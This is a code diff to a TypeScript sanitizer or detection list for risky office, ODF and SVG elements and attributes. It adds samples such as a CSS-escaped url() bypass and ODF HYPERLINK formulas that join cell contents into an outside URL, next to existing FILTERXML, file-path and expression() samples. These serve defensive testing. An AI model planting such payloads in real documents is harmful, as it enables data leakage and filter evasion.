@@ -239,7 +239,7 @@ export const DRAWING_ATTRIBUTES: typeof OFFICE_ATTRIBUTES = [
   [
     'svg-loaded-style',
     'style fill stroke filter mask clip-path marker cursor',
-    ['fill: url(https://a.example/x.svg#a)', 'url("a.svg")', 'a: expression(run())', '@import "a"'],
+    ['fill: url(https://a.example/x.svg#a)', 'url("a.svg")', 'a: expression(run())', '@import "a"', '\\75 rl(a)'],
   ],
 ];
 
@@ -249,6 +249,8 @@ export const OPEN_DOCUMENT_ELEMENTS = lines({
   'odf-dde': 'dde-connection dde-connection-decl dde-connection-decls dde-link dde-source dde-links',
   'odf-database': `database-display database-next database-row-select database-name database-row-number table-source
     cell-range-source`,
+  'odf-form-data': 'model instance submission',
+  'odf-font': 'font-face-src font-face-uri definition-src',
   'odf-encrypted': 'encryption-data',
 });
 
@@ -262,6 +264,8 @@ export const OPEN_DOCUMENT_ATTRIBUTES: typeof OFFICE_ATTRIBUTES = [
       'of:=FILTERXML("a";"b")',
       "of:='file:///a'#b",
       'of:=\\\\a\\b',
+      'of:=HYPERLINK("https://a.example/"&[.A1];"a")',
+      'of:=HYPERLINK([.A1])',
     ],
   ],
   ['odf-form-command', 'command', ['SELECT * FROM a']],
